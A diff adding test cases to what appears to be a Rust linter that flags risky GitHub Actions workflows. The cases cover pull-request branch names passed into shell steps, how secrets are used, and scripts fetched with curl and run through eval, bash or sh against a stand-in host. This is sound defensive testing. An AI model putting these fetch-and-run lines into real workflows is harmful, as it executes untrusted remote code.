@@ -188,6 +188,24 @@ fn code_of_outsiders_by_other_ways_in() {
                 Some(9),
             ),
             ("its own branch", pr, "- uses: actions/checkout@v4\n- run: make", None),
+            (
+                "a branch made of theirs",
+                pr,
+                "- run: |\n    git checkout -b work \"origin/$REF\"\n    make\n  env: {REF: '${{ github.head_ref }}'}",
+                Some(7),
+            ),
+            (
+                "a branch that is named like theirs",
+                pr,
+                "- run: |\n    git switch -c \"fix/$REF\"\n    make\n    git push origin \"fix/$REF\"\n  env: {REF: '${{ github.head_ref }}'}",
+                None,
+            ),
+            (
+                "a push onto theirs",
+                pr,
+                "- run: |\n    make\n    git push origin HEAD:${{ github.head_ref }}",
+                None,
+            ),
         ],
     );
 }
@@ -246,6 +264,7 @@ fn secrets_that_are_only_used() {
             ("another login", "echo \"$KEY\" | gh auth login --with-token", None),
             ("a login of one command", "GH_TOKEN=$KEY gh issue comment 1 --body done", None),
             ("a login in a header", "gh api -H \"Authorization: token $KEY\" /user -f a=b", None),
+            ("a place", "gh api \"repos/$KEY/dispatches\" -f event_type=x", None),
             ("a publisher", "TWINE_PASSWORD=$KEY twine upload dist/*", None),
             (
                 "settings",
@@ -326,9 +345,27 @@ fn scripts_from_the_network_by_other_ways() {
             ("a program", "python3 <(curl -s https://x.invalid/i.py)", Some(1)),
             ("fetched and run by one tool", "deno run -A https://x.invalid/i.ts", Some(1)),
             ("sourced", "source <(curl -s https://x.invalid)", Some(1)),
+            ("evaluated", "eval \"$(curl -s https://x.invalid)\"", Some(1)),
+            ("redirected", "bash < <(curl -s https://x.invalid)", Some(1)),
             ("a page", "curl -s https://x.invalid/status", None),
+            ("a fetch that is put together", "R=$(eval curl -s $H https://x.invalid/r)", None),
+            (
+                "another address",
+                "curl -s https://x.invalid/${{ github.repository }} | jq .\nL=https://y.invalid/${{ github.repository }}",
+                None,
+            ),
         ],
     );
+}
+
+#[test]
+fn what_runs_while_an_image_is_built_has_none_of_the_secrets() {
+    let image = ("Dockerfile", "FROM debian\nRUN curl -s https://x.invalid | sh\n");
+    for command in ["docker build .", "docker buildx imagetools create -t a b"] {
+        let body = format!("- run: {command}\n  env: {{KEY: '${{{{ secrets.DEPLOY_KEY }}}}'}}");
+        let workflow = steps("push", &body);
+        assert!(at(REMOTE, &[(CI, &workflow), image]).is_empty(), "{command}");
+    }
 }
 
 #[test]
